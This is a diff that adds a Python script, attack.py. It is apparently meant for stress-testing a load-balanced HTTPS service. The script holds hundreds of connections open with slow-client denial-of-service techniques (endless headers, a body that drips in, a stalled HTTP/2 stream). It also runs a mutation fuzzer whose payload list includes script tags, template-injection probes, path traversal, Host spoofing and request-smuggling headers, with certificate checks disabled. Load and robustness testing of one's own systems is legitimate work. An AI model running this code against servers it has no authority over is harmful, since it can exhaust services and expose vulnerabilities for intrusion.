@@ -1,0 +1,263 @@
+"""Attacks on a server: raw requests, 500 slow clients at once, a fuzzer. Nothing but the standard library.
+
+It runs as a program, too, on a machine that has nothing else: told what to do in a line of JSON, it answers in lines of
+JSON. `python3 attack.py <<< '{"attack": "fuzz", "host": "192.0.2.10", ...}'`
+"""
+
+import json
+import random
+import re
+import select
+import socket
+import ssl
+import sys
+import time
+from collections import Counter
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import suppress
+from dataclasses import dataclass, field
+from itertools import cycle
+from threading import Thread
+
+HEADER = re.compile(rb"HTTP/1\.1 (\d{3})[^\r]*\r\n(.*?)\r\n\r\n", re.DOTALL)
+
+
+def _context(protocol):
+    """The certificate isn't looked at: attackers don't care."""
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols([protocol])
+    return context
+
+
+CONTEXTS = {protocol: _context(protocol) for protocol in ("http/1.1", "h2")}
+
+
+@dataclass
+class Target:
+    """Whom to attack, and from where."""
+
+    host: str
+    port: int
+    name: str  # what Host says
+    sources: list = field(default_factory=lambda: [""])  # addresses of this machine
+
+    def connect(self, source="", protocol="http/1.1", timeout=5.0):
+        """A connection from one of the sources. Raises OSError."""
+        plain = socket.create_connection((self.host, self.port), timeout, (source, 0))
+        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        return CONTEXTS[protocol].wrap_socket(plain, server_hostname=self.name)
+
+
+def ask(target, requests):
+    """Send texts, each from another source; return a list of answers to each: see `answers`."""
+    with ThreadPoolExecutor(len(target.sources)) as pool:
+        return list(pool.map(lambda text, source: answers(target, text, source), requests, cycle(target.sources)))
+
+
+def answers(target, request, source="", timeout=2.0):
+    """Send a text; return (status, header, body) of each answer, until the server closes or is silent for a while."""
+    received = b""
+    with suppress(OSError), target.connect(source, timeout=timeout) as connection:
+        with suppress(OSError):  # refused while it is still being sent: the answer is there nevertheless
+            connection.sendall(request.encode("latin-1"))
+        while data := connection.recv(65536):
+            received += data
+    found = []
+    while match := HEADER.search(received):
+        header = match[2].decode("latin-1")
+        length = int((re.search(r"(?im)^content-length: *(\d+)", header) or [0, len(received)])[1])
+        found.append((int(match[1]), header, received[match.end() :][:length].decode("latin-1")))
+        received = received[match.end() + length :]
+    return found
+
+
+def hold(target, count, kind):
+    """Be `count` slow clients, until stdin says more; tell how many were let in, and how many still are after each s.
+
+    kind: "header" that never ends, "body" of which a byte a second comes, "read" that takes no byte of its answer.
+    """
+    begin = {
+        "header": f"GET / HTTP/1.1\r\nHost: {target.name}\r\n".encode(),
+        "body": (
+            f"POST /api/counter HTTP/1.1\r\nHost: {target.name}\r\n"
+            "Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
+        ).encode(),
+        "read": _http2(target.name),
+    }[kind]
+    drip = {"header": b"X-Slow: 1\r\n", "body": b" ", "read": b""}[kind]
+    protocol = "h2" if kind == "read" else "http/1.1"
+
+    def enter(source):
+        with suppress(OSError):
+            connection = target.connect(source, protocol)
+            connection.sendall(begin)
+            connection.settimeout(0)
+            return connection
+
+    sources = cycle(target.sources)
+    with ThreadPoolExecutor(16) as pool:
+        held = [each for each in pool.map(enter, [next(sources) for _ in range(count)]) if each]
+    while True:
+        held = [connection for connection in held if _is_open(connection, drip)]
+        print(json.dumps(len(held)), flush=True)
+        if select.select([sys.stdin], [], [], 1)[0]:
+            return None
+
+
+def _is_open(connection, drip):
+    """Send some more; tell whether the server still listens."""
+    try:
+        if drip:
+            connection.send(drip)
+        while connection.recv(65536):
+            pass
+    except (ssl.SSLWantReadError, BlockingIOError):
+        return True
+    except OSError:
+        pass
+    connection.close()
+    return False
+
+
+def _http2(name):
+    """A request for a page whose answer may not begin: the window for it is 0 bytes (RFC 9113, 6.9.2)."""
+
+    def frame(kind, flags, stream, payload):
+        return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+    settings = frame(4, 0, 0, b"\x00\x04\x00\x00\x00\x00")
+    # GET, https, /, and :authority in full: numbers of HPACK's static table (RFC 7541, appendix A)
+    request = b"\x82\x87\x84\x01" + bytes([len(name)]) + name.encode()
+    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + frame(1, 5, 1, request)
+
+
+SPICES = [
+    *(b"\x00", b"\r\n", b"\n", b"\r", b" ", b"\t", b"%00", b"%", b"%ff", b"../", b"//", b"\xff\xfe", b"\xc3\x28", b";"),
+    *(b"'", b'"', b"<script>", b"{{7*7}}", b"${x}", b"-1", b"0", b"99999999999999999999", b"NaN", b"null", b"[" * 2000),
+    *(b"A" * 5000, b"\r\nTransfer-Encoding: chunked", b"\r\nContent-Length: 5", b"\r\nExpect: 100-continue"),
+    *(b"\r\nHost: evil.test", b"\r\nX-Forwarded-For: 127.0.0.1", b"\r\nCookie: session=x", b"\r\nRange: bytes=0-1"),
+    *(b"HTTP/1.0", b"HTTP/9.9", b"CONNECT ", b"TRACE ", b"OPTIONS ", b"PROPFIND ", b'{"a":' * 500, b"\xed\xa0\x80"),
+]
+
+
+def mutate(chance, request, corpus):
+    """Return the request with a part changed; four times in five the rest is right, so that a node gets to see it."""
+    head, _, body = request.partition(b"\r\n\r\n")
+    first, *headers = head.split(b"\r\n")
+    match chance.randrange(5):
+        case 0:
+            return _change(chance, request, corpus)
+        case 1:
+            method, path, version = first.split(b" ")
+            first = b" ".join([method, _change(chance, path, corpus), version])
+        case 2 if body:
+            body = chance.choice(SPICES)
+        case 3 if body:
+            body = _change(chance, body, corpus)
+        case _:
+            number = chance.randrange(1, len(headers))  # the first one is Host
+            name, _, value = headers[number].partition(b": ")
+            headers[number] = name + b": " + _change(chance, value, corpus)
+    length = b"Content-Length: %d" % len(body)
+    headers = [length if each.startswith(b"Content-Length") else each for each in headers]
+    return b"\r\n".join([first, *headers]) + b"\r\n\r\n" + body
+
+
+def _change(chance, text, corpus):
+    """Return the text with one to four small changes."""
+    text = bytearray(text)
+    for _ in range(chance.randint(1, 4)):
+        at, length = chance.randrange(len(text) + 1), chance.choice([1, 1, 2, 8, 40])
+        match chance.randrange(6):
+            case 0:
+                text[at : at + 1] = bytes([chance.randrange(32, 256)])
+            case 1:
+                del text[at : at + length]
+            case 2:
+                text[at:at] = text[at : at + length] * chance.choice([1, 2, 50])
+            case 3 | 4:
+                text[at:at] = chance.choice(SPICES)
+            case 5:
+                other = chance.choice(corpus)
+                start = chance.randrange(len(other))
+                text[at:] = other[start : start + length]
+    return bytes(text)
+
+
+def fuzz(target, corpus, count, seed):
+    """Send `count` mutated requests, the same for the same seed; tell how often there was which answer.
+
+    Returns statuses with their numbers ("none": no answer within 0.3 s, or none at all), those that a node
+    gave, and examples of answers that nobody should get.
+    """
+    corpus = [each.encode("latin-1") for each in corpus]
+    statuses, of_nodes, odd = Counter(), Counter(), []
+
+    def attack(number, source):
+        chance = random.Random(seed * 1000 + number)
+        connection = None
+        for _ in range(number, count, len(target.sources)):
+            request = mutate(chance, chance.choice(corpus), corpus)
+            status, header, connection = _ask(target, source, connection, request)
+            statuses[status] += 1
+            if "x-node:" in header.lower():
+                of_nodes[status] += 1
+            if _is_odd(status, header) and len(odd) < 20:
+                odd.append([status, header, request[:2000].decode("latin-1")])
+
+    threads = [Thread(target=attack, args=each) for each in enumerate(target.sources)]
+    began = time.monotonic()
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    seconds = time.monotonic() - began
+    return {"statuses": statuses, "of_nodes": of_nodes, "odd": odd, "seconds": seconds}
+
+
+def _is_odd(status, header):
+    """An error that was not announced. 501 and 505 are what the balancer says of an unknown encoding or version."""
+    is_announced = status == "503" and "retry-after:" in header.lower()
+    return status.startswith("5") and status not in ("501", "505") and not is_announced
+
+
+def _ask(target, source, connection, request):
+    """Return status and header of the first answer, and the connection if it can serve once more."""
+    received = b""
+    try:
+        if connection is None:
+            connection = target.connect(source)
+        connection.settimeout(0.3)
+        connection.sendall(request)
+        while not (match := HEADER.search(received)) or match[1] == b"100":
+            received = received[match.end() :] if match else received
+            data = connection.recv(65536)
+            if not data:
+                raise ConnectionError
+            received += data
+        header = match[2].decode("latin-1")
+        length = re.search(r"(?im)^content-length: *(\d+)", header)
+        rest = int(length[1]) - len(received) + match.end() if length else -1
+        while rest > 0 and (data := connection.recv(65536)):
+            rest -= len(data)
+        # Without a length, or with more than one answer, nobody knows where the next one begins.
+        if rest != 0 or re.search(r"(?im)^connection: *close", header):
+            connection.close()
+            connection = None
+        return match[1].decode(), header, connection
+    except OSError:
+        if connection:
+            connection.close()
+        return "none", "", None
+
+
+def main():
+    """Do what the first line of stdin says."""
+    told = json.loads(sys.stdin.readline())
+    attack, target = told.pop("attack"), Target(**told.pop("target"))
+    print(json.dumps({"ask": ask, "hold": hold, "fuzz": fuzz}[attack](target, **told)), flush=True)
+
+
+if __name__ == "__main__":
+    main()
